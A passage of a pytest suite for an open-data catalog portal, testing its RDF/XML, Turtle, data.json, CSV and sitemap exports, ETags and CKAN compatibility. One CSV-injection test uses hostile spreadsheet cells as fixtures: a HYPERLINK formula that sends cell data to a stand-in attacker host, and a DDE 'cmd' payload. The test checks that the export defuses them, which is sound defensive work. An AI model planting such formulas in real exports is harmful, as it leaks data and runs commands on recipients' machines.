    from rdflib.compare import isomorphic

    for page in (1, 2):
        reference = rdflib.Graph().parse(data=client.get(f"/catalog.rdf?per_page=5&page={page}").data, format="xml")
        for ext, fmt in (("ttl", "turtle"), ("nt", "nt")):
            graph = rdflib.Graph().parse(data=client.get(f"/catalog.{ext}?per_page=5&page={page}").data, format=fmt)
            # The page's own URI names its format; the rest must be the same triples.
            for g in (graph, reference):
                for s, p, o in list(g):
                    for node in (s, o):
                        if isinstance(node, rdflib.URIRef) and "/catalog." in str(node) and "page=" in str(node):
                            g.remove((s, p, o))
                            break
            assert len(graph) > 50
            assert isomorphic(graph, reference), (ext, page)


def test_control_characters_of_a_source_leave_every_xml_document_well_formed(client, session):
    """A vertical tab or an escape pasted into a harvested title is legal in JSON and in the database, not in
    XML 1.0: one such dataset made /catalog.rdf (every page it was on), its .rdf, its badge and the Atom feed
    not well-formed, so an RDF/XML harvester lost the whole page. XML gets the text without them; the
    formats that escape them (Turtle, N-Triples, JSON-LD) keep them."""
    record = complete("ctrl", {"en": "Bus\x0bstops\x01 \U0001f68c", "zh": "公交\x1f站点"}, 7)
    record["description"] = {"en": "line one\x0cline two & <three>"}
    record["keywords"] = ["tag\x02x"]
    record["distributions"][0]["title"] = {"en": "file\x03one"}
    _save(session, [record])
    ds = session.scalar(select(Dataset).where(Dataset.slug == "ctrl"))
    ds.stars = 3
    session.commit()
    subject = URIRef(f"{SITE}/dataset/ctrl")
    for path in ("/catalog.rdf", "/dataset/ctrl.rdf"):
        resp = client.get(path)
        assert resp.status_code == 200, path
        ET.fromstring(resp.data)  # well-formed XML, as a harvester's XML parser needs
        graph = rdflib.Graph().parse(data=resp.data, format="xml")
        assert Literal("Busstops \U0001f68c", lang="en") in set(graph.objects(subject, DCT.title)), path
        assert Literal("line oneline two & <three>", lang="en") in set(graph.objects(subject, DCT.description))
        assert Literal("tagx") in set(graph.objects(subject, DCATNS.keyword))
    ttl = rdflib.Graph().parse(data=client.get("/dataset/ctrl.ttl").data, format="turtle")
    assert Literal("Bus\x0bstops\x01 \U0001f68c", lang="en") in set(ttl.objects(subject, DCT.title))  # kept
    for path in ("/dataset/ctrl/badge.svg", "/feeds/dataset.atom?lang=en"):
        resp = client.get(path)
        assert resp.status_code == 200, path
        root = ET.fromstring(resp.data)
        assert "Busstops" in "".join(root.itertext()), path
    # the catalog's own XML export dropped only the C0 controls: a U+FFFE noncharacter broke it as one did RDF/XML
    ds.title = {**ds.title, "en": "Bus\x0bstops\ufffe"}
    session.commit()
    root = ET.fromstring(client.get("/catalog.xml").data)
    assert "Busstops" in "".join(root.itertext())


def test_data_json_says_open_periods_and_several_places_as_pod_allows(client, session):
    """A period with a start and no end (the publish form and /api/v1 accept one) was published as a bare date,
    and a dataset of two places as a list: POD v1.1 wants `temporal` as an interval and `spatial` as one string,
    so the whole /data.json failed its schema (data.gov's harvester drops such a dataset). An open period is left
    out; several places become the box around them."""
    two = complete("two-places", {"en": "Two places"}, 1)
    two.update(spatial=["urn:gb2260:330700", "urn:gb2260:330782"], temporal={"start": "2021-03", "end": None})
    ended = complete("ended", {"en": "Ended"}, 2)
    ended.update(spatial=["urn:gb2260:330700"], temporal={"start": None, "end": "2020"})
    closed = complete("closed", {"en": "Closed"}, 3)
    _save(session, [two, ended, closed])
    document = json.loads(client.get("/data.json").data)
    assert pod_errors(document) == []
    by_id = {d["identifier"]: d for d in document["dataset"]}
    assert "temporal" not in by_id["ID-1"] and "temporal" not in by_id["ID-2"]
    assert by_id["ID-3"]["temporal"] == "2019-01-01/2023-12-31"  # a whole period as before
    assert by_id["ID-2"]["spatial"] == "urn:gb2260:330700"  # one place as before
    west, south, east, north = map(float, by_id["ID-1"]["spatial"].split(","))
    assert 119 < west < east < 121 and 28 < south < north < 30  # 金华市 and its county 义乌市


def test_catalog_csv_cells_are_not_run_as_spreadsheet_formulas(client, session):
    """A source's title `=HYPERLINK(...)` was written to /catalog.csv as it is, and the spreadsheet an official
    opens the export in runs it (CSV injection). Such cells start with an apostrophe; other cells are as they were."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    record = complete("formula", {"en": evil, "zh": "公交站点"}, 5)
    record["description"] = {"en": "+cmd|' /C calc'!A0"}
    record["keywords"] = ["@SUM(1)", "bus"]
    _save(session, [record, complete("plain", {"en": "Air - hourly"}, 6)])
    for path in ("/catalog.csv", "/dataset/formula.csv"):
        rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(client.get(path).get_data(as_text=True)))}
        row = rows["formula"]
        assert row["title_en"] == "'" + evil and row["title"] == "'" + evil, path
        assert row["description"] == "'+cmd|' /C calc'!A0" and row["keywords"] == "'@SUM(1);bus"
        assert row["title_zh"] == "公交站点" and row["slug"] == "formula"
    plain = {r["slug"]: r for r in csv.DictReader(io.StringIO(client.get("/catalog.csv").get_data(as_text=True)))}
    assert plain["plain"]["title_en"] == "Air - hourly"


def test_the_catalog_and_distribution_iris_we_publish_dereference(client, session):
    """Every page names `<site>/catalog` (the dcat:Catalog) and `<dataset>/resource/<id>` (each dcat:Distribution,
    what the DQV measurements are computed on); both answered 404, so a linked-data client following them found
    nothing. They answer 303 See Other to the document describing them, as Accept asks."""
    _save(session, [complete("iris", {"en": "IRIs"}, 8)])
    graph = rdflib.Graph().parse(data=client.get("/dataset/iris.ttl").data, format="turtle")
    dists = sorted(str(o) for o in graph.objects(URIRef(f"{SITE}/dataset/iris"), DCATNS.distribution))
    assert len(dists) == 2
    cat = client.get("/catalog", headers={"Accept": "text/turtle"})
    assert cat.status_code == 303 and _path(cat.headers["Location"]) == "/catalog.ttl"
    assert "Accept" in cat.headers["Vary"]
    catalog_graph = rdflib.Graph().parse(data=client.get("/catalog.ttl").data, format="turtle")
    assert (URIRef(f"{SITE}/catalog"), RDF.type, DCATNS.Catalog) in catalog_graph  # what it leads to describes it
    assert _path(client.get("/catalog", headers={"Accept": "application/rdf+xml"}).headers["Location"]) \
        == "/catalog.rdf"
    assert _path(client.get("/catalog", headers={"Accept": "text/html"}).headers["Location"]) == "/"
    assert client.get("/catalog", headers={"Accept": "image/png"}).status_code == 406
    for iri in dists:
        rdf = client.get(_path(iri), headers={"Accept": "text/turtle"})
        assert rdf.status_code == 303 and _path(rdf.headers["Location"]) == "/dataset/iris.ttl", iri
        page = client.get(_path(iri), headers={"Accept": "text/html"})
        assert page.status_code == 303 and _path(page.headers["Location"]).startswith("/dataset/iris")
        anchor = urlsplit(page.headers["Location"]).fragment
        assert f'id="{anchor}"' in client.get("/dataset/iris", headers={"Accept": "text/html"}).get_data(as_text=True)
    assert client.get("/dataset/iris/resource/not-a-file", headers={"Accept": "text/turtle"}).status_code == 404
    assert client.get("/dataset/nope/resource/x", headers={"Accept": "text/turtle"}).status_code == 404


def test_an_accept_nothing_here_satisfies_is_the_json_error_or_the_error_page(client, session):
    """/dataset/<slug>, /catalog and a distribution's IRI answered a 406 they could not negotiate as English plain
    text ("Not Acceptable: available ..."), where the other machine doors answer the API's JSON error: now that
    shape, in the reader's language, listing the media types they answer in (also to a client refusing HTML with
    text/html;q=0); a browser, which names text/html, gets its page, never a 406. The status stays 406, and the
    answer varies by Accept."""
    _save(session, [complete("neg", {"en": "Negotiated"}, 9)])
    graph = rdflib.Graph().parse(data=client.get("/dataset/neg.ttl").data, format="turtle")
    dist = _path(sorted(str(o) for o in graph.objects(URIRef(f"{SITE}/dataset/neg"), DCATNS.distribution))[0])
    for url in ("/dataset/neg", "/catalog", dist):
        en = client.get(url, headers={"Accept": "image/png"})
        zh = client.get(url, headers={"Accept": "image/png", "Accept-Language": "zh-CN,zh;q=0.9"})
        for resp in (en, zh):
            assert resp.status_code == 406 and resp.mimetype == "application/json", (url, resp.get_data()[:200])
            error = resp.get_json()["error"]
            assert (error["status"], error["code"]) == (406, "not-acceptable"), url
            for media in ("text/html", "text/turtle", "application/ld+json", "application/rdf+xml", "text/csv"):
                assert media in error["message"], (url, error["message"])
            assert "Accept" in resp.headers["Vary"] and "Accept-Language" in resp.headers["Vary"], url
        assert en.get_json()["error"]["message"].startswith("This address cannot answer"), url
        assert zh.get_json()["error"]["message"].startswith("此地址无法以"), url
        head = client.head(url, headers={"Accept": "image/png"})
        assert head.status_code == 406 and head.mimetype == "application/json", url
        # text/html at q=0 refuses HTML (app/accept.py): no browser, so the JSON error, not the page it got
        refusing = client.get(url, headers={"Accept": "image/png, text/html;q=0"})
        assert refusing.status_code == 406 and refusing.mimetype == "application/json", url
        assert "text/turtle" in refusing.get_json()["error"]["message"] and "Accept" in refusing.headers["Vary"], url
    # what can be answered still is
    assert client.get("/dataset/neg", headers={"Accept": "text/turtle"}).status_code == 200
    assert client.get("/catalog", headers={"Accept": "text/turtle"}).status_code == 303


def test_badges_speak_chinese_when_their_url_asks(client, session):
    """The Chinese dataset page offers a badge snippet for Chinese sites, but the badge said "open data", "not
    assessed" and the English title whatever the page's language. `?lang=zh` gives a Chinese badge, and the
    Chinese page's image and snippet ask for it; the plain URL stays the English image for every client."""
    _save(session, [complete("badge", {"en": "Air quality", "zh": "空气质量"}, 9)])
    resp = client.get("/dataset/badge/badge.svg?lang=zh")
    assert "Set-Cookie" not in resp.headers  # an image other sites embed, cached public: no session cookie
    ET.fromstring(zh := resp.get_data(as_text=True))
    assert ">开放数据<" in zh and ">未评估<" in zh and "<title>空气质量: 未评估</title>" in zh
    en = client.get("/dataset/badge/badge.svg", headers={"Accept-Language": "zh-CN"}).get_data(as_text=True)
    assert ">open data<" in en and "<title>Air quality: not assessed</title>" in en  # the URL decides
    pub = client.get("/publisher/env/badge.svg?lang=zh").get_data(as_text=True)
    assert ">开放数据<" in pub and ">未评估<" in pub
    page = client.get("/dataset/badge?lang=zh", headers={"Accept": "text/html"}).get_data(as_text=True)
    assert 'src="/dataset/badge/badge.svg?lang=zh"' in page  # the image, and the snippet to copy:
    assert '&lt;img src="http://127.0.0.1:5000/dataset/badge/badge.svg?lang=zh"' in page
    page_en = client.get("/dataset/badge?lang=en", headers={"Accept": "text/html"}).get_data(as_text=True)
    assert 'src="/dataset/badge/badge.svg"' in page_en


def test_a_catalog_harvesting_our_data_json_follows_a_publisher_rename(session, app_config, tmp_path):
    """data.json named a publisher by its name alone, so a catalog harvesting ours matched publishers by name:
    when a department was renamed it made a second publisher for the new name and left the first one, empty, in
    its lists and league table. Each publisher now carries its IRI here (`@id`, as DCAT names it), by which the
    harvesting catalog finds it again and takes the new name."""
    from app import create_app
    from app.jobs import harvest
    from catalog_schema.models import Publisher

    _save(session, [complete("air-1", {"en": "Air 1"}, 11), complete("air-2", {"en": "Air 2"}, 12)])
    live = create_app(app_config)
    served = ServedApp(live)
    live.config["OPENDATA"]["SITE_URL"] = served.url
    target_url = f"sqlite:///{tmp_path / 'aggregator.db'}"
    dbmod.upgrade(target_url)
    rt = _runtime(target_url, tmp_path)
    try:
        import requests

        document = requests.get(served.url + "/data.json", timeout=30).json()
        assert pod_errors(document) == []
        assert {d["publisher"]["@id"] for d in document["dataset"]} == {served.url + "/publisher/env"}
        with rt.sessionmaker() as s:
            s.add(HarvestSource(name="national", type="datajson", url=served.url + "/data.json"))
            s.commit()
        assert harvest(rt, "national", full=True).added == 2
        pub = session.scalar(select(Publisher).where(Publisher.slug == "env"))
        pub.name = {"en": "Environment and Climate Agency"}
        session.commit()
        assert harvest(rt, "national", full=True).updated == 2
        with rt.sessionmaker() as s:
            names = [p.name for p in s.scalars(select(Publisher))]
            owners = {d.publisher.name["" if "" in d.publisher.name else "en"] for d in s.scalars(select(Dataset))}
    finally:
        rt.close()
        served.close()
    assert len(names) == 1 and owners == {"Environment and Climate Agency"}


def test_export_to_a_file_that_cannot_be_written_is_one_sentence(db_url, tmp_path):
    """`export catalog -o` into a folder that does not exist (or cannot be written) ended in a traceback."""
    import os

    from tests.support.cli import opendata

    env = {**os.environ, "OPENDATA_DATABASE_URL": db_url, "OPENDATA_INSTANCE_DIR": str(tmp_path)}
    target = tmp_path / "no-such-folder" / "catalog.csv"
    out = opendata("--lang", "zh", "export", "catalog", "--format", "csv", "-o", str(target), env=env)
    assert out.returncode == 1 and f"无法写入 {target}" in out.stderr and "Traceback" not in out.stderr, out.stderr
    assert not target.parent.exists()
    done = opendata("export", "catalog", "--format", "csv", "-o", str(tmp_path / "catalog.csv"), env=env)
    assert done.returncode == 0 and (tmp_path / "catalog.csv").exists() and not (tmp_path / "catalog.csv.part").exists()


def _two_datasets_and_their_admin(app, session) -> dict[str, str]:
    """Two datasets of the publisher env, and the headers of its admin's REST token (to edit and withdraw them)."""
    from app.services import accounts
    from tests.support.accounts import make_user

    _save(session, [complete("air-1", {"en": "Air one"}, 1), complete("air-2", {"en": "Air two"}, 2)])
    make_user(app, "admin@env.example.gov", admin_of="env")
    with app.extensions["opendata"]["sessionmaker"]() as s:
        token = accounts.create_token(s, auth.find_user(s, "admin@env.example.gov"), name="tests")
        s.commit()
    return {"Authorization": f"Bearer {token}"}


def test_data_json_carries_a_validator_that_moves_with_the_catalog(app, client, session):
    """/data.json is streamed, so the body hash the pages and the paged exports get was never made and clients could
    not revalidate: its weak ETag is made from the catalog's change marker before the body, answers If-None-Match
    with 304 (GET and HEAD alike), and moves when a dataset is added, edited (REST PATCH) or withdrawn (REST)."""
    writer = _two_datasets_and_their_admin(app, session)

    def tag_and_titles() -> tuple[str, list[str]]:
        resp = client.get("/data.json")
        assert resp.status_code == 200 and resp.headers["ETag"].startswith('W/"'), resp.headers
        return resp.headers["ETag"], sorted(d["title"] for d in json.loads(resp.get_data())["dataset"])

    first, titles = tag_and_titles()
    assert titles == ["Air one", "Air two"] and tag_and_titles()[0] == first  # the same catalog, the same tag
    for method in (client.get, client.head):
        held = method("/data.json", headers={"If-None-Match": first})
        assert held.status_code == 304 and held.get_data() == b"" and held.headers["ETag"] == first
    head = client.head("/data.json")
    assert head.status_code == 200 and head.headers["ETag"] == first and head.get_data() == b""
    zipped = client.get("/data.json", headers={"Accept-Encoding": "gzip", "If-None-Match": first})
    assert zipped.status_code == 304 and "Accept-Encoding" in zipped.headers["Vary"]
    other = client.get("/data.json?x=1")  # another URL, another variant
    assert other.status_code == 200 and other.headers["ETag"] != first

    _save(session, [complete("air-3", {"en": "Air three"}, 3)])  # added
    added, titles = tag_and_titles()
    assert added != first and titles == ["Air one", "Air three", "Air two"]
    assert client.get("/data.json", headers={"If-None-Match": first}).status_code == 200

    patched = client.patch("/api/v1/datasets/air-1", json={"title": "Air one, revised", "lang": "en"}, headers=writer)
    assert patched.status_code == 200, patched.get_data(as_text=True)[:300]
    edited, titles = tag_and_titles()
    assert edited not in (first, added) and "Air one, revised" in titles
    assert client.get("/data.json", headers={"If-None-Match": added}).status_code == 200

    gone = client.post("/api/v1/datasets/air-2/withdraw", json={"reason": "Superseded by Air three."},
                       headers=writer)
    assert gone.status_code == 200, gone.get_data(as_text=True)[:300]
    withdrawn, titles = tag_and_titles()
    assert withdrawn not in (first, added, edited) and titles == ["Air one, revised", "Air three"]
    assert client.get("/data.json", headers={"If-None-Match": withdrawn}).status_code == 304


DUMPS = ("/catalog.csv", "/catalog.xml", "/catalog.json", "/catalog.nt?page=all", "/catalog.ttl?page=all",
         "/catalog/dump.nt", "/catalog/dump.ttl", "/catalog.csv?modified_since=2000-01-01T00:00:00Z",
         "/catalog.nt?page=all&modified_since=2000-01-01T00:00:00Z")


def test_the_streamed_dumps_carry_validators_that_move_with_the_catalog(app, client, session):
    """The streamed catalog dumps (CSV, XML, JSON, the whole catalog in N-Triples and Turtle) had no ETag: the
    pages' body hash is never made for a stream, so a mirror downloaded the whole catalog every time. Each carries
    the weak tag /data.json got, made before its body from the catalog's change marker: one per format and query,
    the same in any language (the bodies are the records' own), answering If-None-Match with 304 (GET and HEAD
    alike), and moving when a dataset is added, edited (REST PATCH) or withdrawn (REST)."""
    writer = _two_datasets_and_their_admin(app, session)

    def tags(*, says: str | None = None) -> dict[str, str]:
        out = {}
        for url in DUMPS:
            resp = client.get(url)
            assert resp.status_code == 200 and resp.is_streamed, url
            assert resp.headers.get("ETag", "").startswith('W/"'), (url, resp.headers)
            if says is not None:
                assert says in resp.get_data(as_text=True), (url, says)
            out[url] = resp.headers["ETag"]
        return out

    first = tags(says="Air two")
    assert len(set(first.values()) | {client.get("/data.json").headers["ETag"]}) == len(DUMPS) + 1  # one a variant
    assert tags() == first  # the same catalog, the same tags
    for url, tag in first.items():
        assert client.get(url, headers={"Accept-Language": "zh-CN,zh;q=0.9"}).headers["ETag"] == tag, url
        for method in (client.get, client.head):
            held = method(url, headers={"If-None-Match": tag})
            assert held.status_code == 304 and held.get_data() == b"" and held.headers["ETag"] == tag, url
        head = client.head(url)
        assert head.status_code == 200 and head.headers["ETag"] == tag and head.get_data() == b"", url
        zipped = client.get(url, headers={"Accept-Encoding": "gzip", "If-None-Match": tag})
        assert zipped.status_code == 304 and "Accept-Encoding" in zipped.headers["Vary"], url
        other = client.get(url, headers={"If-None-Match": 'W/"another"'})
        assert other.status_code == 200 and "Air one" in other.get_data(as_text=True), url

    added, _edited, withdrawn = _tags_as_the_catalog_changes(client, session, writer, first, tags,
                                                             says=("Air three", "Air one, revised"))
    assert all(client.get(url, headers={"If-None-Match": first[url]}).status_code == 200 for url in DUMPS)
    assert "Air two" not in client.get("/catalog.csv").get_data(as_text=True)
    assert all(client.get(url, headers={"If-None-Match": withdrawn[url]}).status_code == 304 for url in DUMPS)


def _tags_as_the_catalog_changes(client, session, writer, first: dict[str, str], tags, *,
                                 says: tuple[str | None, str | None] = (None, None)) -> list[dict[str, str]]:
    """The tags `tags(says=...)` reads after a dataset is added (air-3), edited (REST PATCH of air-1) and withdrawn
    (REST, air-2), in turn: each set new, none of the earlier ones again. `says`: what the body then holds, when
    `tags` reads it."""
    seen = [first]
    _save(session, [complete("air-3", {"en": "Air three"}, 3)])  # added
    seen.append(tags(says=says[0]) if says[0] else tags())
    patched = client.patch("/api/v1/datasets/air-1", json={"title": "Air one, revised", "lang": "en"}, headers=writer)
    assert patched.status_code == 200, patched.get_data(as_text=True)[:300]
    seen.append(tags(says=says[1]) if says[1] else tags())
    gone = client.post("/api/v1/datasets/air-2/withdraw", json={"reason": "Superseded by Air three."},
                       headers=writer)
    assert gone.status_code == 200, gone.get_data(as_text=True)[:300]
    seen.append(tags())
    for i, now in enumerate(seen[1:], start=1):
        assert not set(now.values()) & {tag for before in seen[:i] for tag in before.values()}, i
    return seen[1:]


SITEMAPS = ("/sitemap.xml", "/sitemap-pages.xml", "/sitemap-datasets-1.xml")


def test_the_sitemaps_carry_validators_that_move_with_the_catalog(app, client, session):
    """The sitemaps stream, so they carried no ETag (the pages' body hash is never made for a stream) and a crawler
    fetched every part again each time. Each carries a weak tag made before its body from the catalog's change
    marker, as /data.json does: one per part, answering If-None-Match with 304 (GET and HEAD alike), and moving
    when a dataset is added, edited (REST PATCH) or withdrawn (REST)."""
    writer = _two_datasets_and_their_admin(app, session)

    def tags() -> dict[str, str]:
        out = {}
        for url in SITEMAPS:
            resp = client.get(url)
            assert resp.status_code == 200 and resp.headers.get("ETag", "").startswith('W/"'), (url, resp.headers)
            out[url] = resp.headers["ETag"]
        return out

    first = tags()
    assert len(set(first.values())) == len(SITEMAPS)  # each part its own
    assert tags() == first  # the same catalog, the same tags
    for url, tag in first.items():
        for method in (client.get, client.head):
            held = method(url, headers={"If-None-Match": tag})
            assert held.status_code == 304 and held.get_data() == b"" and held.headers["ETag"] == tag, url
        head = client.head(url)
        assert head.status_code == 200 and head.headers["ETag"] == tag, url
        assert client.get(url, headers={"If-None-Match": 'W/"another"'}).status_code == 200, url

    added, _edited, withdrawn = _tags_as_the_catalog_changes(client, session, writer, first, tags)
    assert "/dataset/air-3<" in client.get("/sitemap-datasets-1.xml").get_data(as_text=True)
    assert all(client.get(url, headers={"If-None-Match": added[url]}).status_code == 200 for url in SITEMAPS)
    assert "/dataset/air-2<" not in client.get("/sitemap-datasets-1.xml").get_data(as_text=True)
    assert all(client.get(url, headers={"If-None-Match": withdrawn[url]}).status_code == 304 for url in SITEMAPS)


# --------------------------------------------------------------------------- dates a source wrote its own way


def _oddly_dated() -> list[dict]:
    """Two CKAN packages as harvested (catalog_schema.ckan.from_ckan keeps each date's text as the source wrote it):
    one with ckanext-dcat's issued/modified extras in words a person writes, one with CKAN's own timestamps so."""
    base = {"notes": "Readings of every station", "license_id": "cc-by", "tags": [{"name": "air"}],
            "organization": {"name": "env", "title": "Environment Agency"}, "maintainer": "Desk",
            "maintainer_email": "desk@env.example.gov"}
    extras = {**base, "id": "odd-extras", "name": "odd-extras", "title": "Odd extras",
              "metadata_created": "2021-03-01 10:00", "metadata_modified": "2021年3月5日",
              "extras": [{"key": "issued", "value": "2021年3月"}, {"key": "modified", "value": "March 2021"}],
              "resources": [{"id": "r1", "name": "CSV", "url": "https://env.example.gov/a.csv", "format": "CSV",
                             "created": "2021年3月1日", "last_modified": "2021-03-05 10:00"}]}
    core = {**base, "id": "odd-core", "name": "odd-core", "title": "Odd core", "extras": [],
            "metadata_created": "2021.03.01", "metadata_modified": "yesterday-ish",
            "resources": [{"id": "r2", "name": "CSV", "url": "https://env.example.gov/b.csv", "format": "CSV",
                           "created": "2021-3", "last_modified": "2023-13-01"}]}
    return [ckan.from_ckan(extras), ckan.from_ckan(core)]


DATE_TYPES = {rdflib.XSD.date, rdflib.XSD.dateTime, rdflib.XSD.gYearMonth, rdflib.XSD.gYear}


def _iso_or_none(value) -> None:
    """What a CKAN client does with a package's timestamps: datetime.fromisoformat (None: not given)."""
    if value is not None:
        dt.datetime.fromisoformat(value)


def test_dates_a_source_wrote_its_own_way_are_dates_in_every_standard_field(app, client, session, shapes):
    """A harvested date is kept as the source wrote it ("2021年3月", "March 2021", "2021-03-01 10:00"), and every
    field a standard types as a date gets it as one: CKAN's metadata_created/metadata_modified and a resource's
    created/last_modified (ISO 8601, what ckanapi users and CKAN harvesters parse), DCAT-AP 3's dct:issued and
    dct:modified (typed literals), data.json's issued/modified (the POD schema), the catalog CSV's and XML's issued
    and modified (ISO, so a spreadsheet sorts them). The source's text rides where CKAN keeps such text (the
    issued/modified extras, a resource's issued/modified), so a harvester reading us back has it as it was."""
    from ckanapi import RemoteCKAN

    _save(session, _oddly_dated())
    server = ServedApp(app, threads=2)
    app.config["OPENDATA"]["SITE_URL"] = server.url
    try:
        ck = RemoteCKAN(server.url)
        packages = {name: ck.action.package_show(id=name) for name in ("odd-extras", "odd-core")}
        found = ck.action.package_search(q="odd", rows=10)["results"]
    finally:
        server.close()
        app.config["OPENDATA"]["SITE_URL"] = SITE
    assert {p["name"] for p in found} == {"odd-extras", "odd-core"}
    for pkg in [*packages.values(), *found]:
        _iso_or_none(pkg["metadata_created"])
        _iso_or_none(pkg["metadata_modified"])
        for res in pkg["resources"]:
            _iso_or_none(res.get("created"))
            _iso_or_none(res.get("last_modified"))
    odd, core = packages["odd-extras"], packages["odd-core"]
    extras = {e["key"]: e["value"] for e in odd["extras"]}
    assert (extras["issued"], extras["modified"]) == ("2021年3月", "March 2021")  # ckanext-dcat's extras, as written
    assert (odd["resources"][0]["created"], odd["resources"][0]["last_modified"]) == \
        ("2021-03-01", "2021-03-05T10:00")
    assert (odd["resources"][0]["issued"], odd["resources"][0]["modified"]) == ("2021年3月1日", "2021-03-05 10:00")
    extras = {e["key"]: e["value"] for e in core["extras"]}
    assert (extras["issued"], extras["modified"]) == ("2021.03.01", "yesterday-ish")
    # no timestamp made of words that are none (CKAN's whole key set gives the keys, null)
    assert core["resources"][0]["created"] is None and core["resources"][0]["last_modified"] is None
    assert (core["resources"][0]["issued"], core["resources"][0]["modified"]) == ("2021-3", "2023-13-01")
    # our own CKAN harvester reading these packages gets the source's words back
    back = {name: ckan.from_ckan(pkg) for name, pkg in packages.items()}
    assert (back["odd-extras"]["issued"], back["odd-extras"]["modified"]) == ("2021年3月", "March 2021")
    assert back["odd-extras"]["distributions"][0]["issued"] == "2021年3月1日"
    assert (back["odd-core"]["issued"], back["odd-core"]["modified"]) == ("2021.03.01", "yesterday-ish")
    assert back["odd-core"]["distributions"][0]["modified"] == "2023-13-01"

    for path, fmt in (("/catalog/dump.ttl", "turtle"), ("/catalog.rdf", "xml"),
                      ("/dataset/odd-core.jsonld", "json-ld")):
        graph = rdflib.Graph().parse(data=client.get(path).data, format=fmt)
        conforms, report, _ = pyshacl.validate(graph, shacl_graph=shapes, inference="none", advanced=False)
        violations = [(str(report.value(r, SH.focusNode)), str(report.value(r, SH.resultPath)))
                      for r in report.subjects(RDF.type, SH.ValidationResult)]
        assert violations == [] and conforms, (path, violations)
        for literal in [*graph.objects(None, DCT.issued), *graph.objects(None, DCT.modified)]:
            assert literal.datatype in DATE_TYPES and not literal.ill_typed, (path, literal)
    graph = rdflib.Graph().parse(data=client.get("/catalog/dump.ttl").data, format="turtle")
    issued = {str(s).rsplit("/", 1)[-1]: str(o) for s, o in graph.subject_objects(DCT.issued)
              if (s, RDF.type, DCATNS.Dataset) in graph}
    assert issued == {"odd-extras": "2021-03", "odd-core": "2021-03-01"}

    document = json.loads(client.get("/data.json").data)
    assert pod_errors(document) == []
    entries = {d["title"]: d for d in document["dataset"]}
    assert (entries["Odd extras"]["issued"], entries["Odd extras"]["modified"]) == ("2021-03", "2021-03")
    assert entries["Odd core"]["issued"] == "2021-03-01"

    for path in ("/catalog.csv", "/dataset/odd-extras.csv"):
        rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(client.get(path).get_data(as_text=True)))}
        assert (rows["odd-extras"]["issued"], rows["odd-extras"]["modified"]) == ("2021-03", "2021-03"), path
    rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(client.get("/catalog.csv").get_data(as_text=True)))}
    assert (rows["odd-core"]["issued"], rows["odd-core"]["modified"]) == ("2021-03-01", "")
    root = ET.fromstring(client.get("/catalog.xml").data)
    dated = {d.get("slug"): (d.findtext("issued"), d.findtext("modified")) for d in root.iter("dataset")}
    assert dated == {"odd-extras": ("2021-03", "2021-03"), "odd-core": ("2021-03-01", None)}


# --------------------------------------------------------------------------- a source's mimetypes


def test_a_harvested_mimetype_is_published_as_the_media_type_it_means(app, client, runtime, add_source,
                                                                      local_server, shapes):
    """Real CKAN dumps keep a format's name, parameters or words as a resource's mimetype ("CSV", "text/csv;
    charset=utf-8", "comma separated"). The harvest keeps each as its source wrote it, and every door said it as it
    was: DCAT-AP 3's dcat:mediaType <.../media-types/CSV> (no media type) and an IRI with a space in it, data.json
    mediaType "CSV", which the POD schema refuses, and with it the whole /data.json. Each door now says the media
    type the value means (catalog_schema.vocab.plain_media_type), or none."""
    from app.jobs import harvest
    from tests.support.ckan_server import FakeCkan

    pkg = json.loads((REAL / "ckan" / "demockan" / "17be64bb-da74-4195-9bb8-565c39846af2.json").read_text())["result"]
    mimetypes = ["CSV", "text/csv; charset=utf-8", "comma separated"]
    first = pkg["resources"][0]
    pkg["resources"] = [{**first, "id": f"{first['id'][:-1]}{i}", "name": f"Part {i}", "position": i,
                         "url": f"{first['url']}?part={i}", "mimetype": mimetype}
                        for i, mimetype in enumerate(mimetypes)]
    add_source("demo-ckan", "ckan", FakeCkan(local_server, [pkg]).url)
    assert harvest(runtime, "demo-ckan").to_dict()["status"] == "finished"
    with runtime.sessionmaker() as s:
        ds = s.scalar(select(Dataset))
        slug = ds.slug
        assert sorted((d.download_url, d.media_type) for d in ds.distributions) == \
            [(f"{first['url']}?part={i}", mimetype) for i, mimetype in enumerate(mimetypes)]  # as its source wrote
        record = to_record(ds)

    iana = "https://www.iana.org/assignments/media-types/"  # dcat_triples.IANA_MEDIA
    graph = rdflib.Graph().parse(data=client.get(f"/dataset/{slug}.ttl").data, format="turtle")
    said = {str(graph.value(node, DCATNS.downloadURL)).rsplit("=", 1)[1]: set(graph.objects(node, DCATNS.mediaType))
            for node in graph.subjects(RDF.type, DCATNS.Distribution)}
    assert said == {"0": {URIRef(iana + "text/csv")}, "1": {URIRef(iana + "text/csv")}, "2": set()}
    conforms, report, _ = pyshacl.validate(graph, shacl_graph=shapes, inference="none", advanced=False)
    violations = [(str(report.value(r, SH.focusNode)), str(report.value(r, SH.resultPath)))
                  for r in report.subjects(RDF.type, SH.ValidationResult)]
    assert violations == [] and conforms, violations

    app.config["OPENDATA"]["CONTACT_EMAIL"] = "opendata@portal.example.gov"  # the package names no one
    document = json.loads(client.get("/data.json").data)
    assert pod_errors(document) == []
    (entry,) = document["dataset"]
    media = {d["downloadURL"].rsplit("=", 1)[1]: d["mediaType"] for d in entry["distribution"]}
    assert media["0"] == media["1"] == "text/csv"
    assert media["2"] == "text/csv"  # POD wants one with a downloadURL: its format's (CSV), never "comma separated"
    with app.test_request_context("/"):
        encodings = [d.get("encodingFormat") for d in routes.schema_org_jsonld(record)["distribution"]]
    assert sorted(encodings) == ["CSV", "text/csv", "text/csv"]  # the third: its format's name, as before


def test_a_harvested_files_address_answers_by_the_catalogs_id_too(client, session):
    """A file harvested from CKAN is named in DCAT by its source's id (`<dataset>/resource/<CKAN resource id>`),
    while every address below it on the page is made of the catalog's own id (`.../resource/<id>/data.csv`,
    `schema.json`, `version/...`): the bare address with that id answered 404, as for no other file. Both answer
    303 to the page at the file; an id the dataset has not is still 404."""
    page = json.loads((Path(__file__).resolve().parents[1] / "fixtures" / "real" / "ckan"
                       / "birmingham_package_search.json").read_text("utf-8"))
    package = next(p for p in page["result"]["results"] if p.get("resources"))
    rec = ckan.from_ckan(package)
    rec["slug"] = "harvested-bus-stops"
    ds, _ = save_record(session, rec)
    search.index_dataset(session, ds)
    session.commit()
    remote, catalog_id = rec["distributions"][0]["id"], ds.distributions[0].id
    assert remote and remote != catalog_id
    for dist_id in (catalog_id, remote):
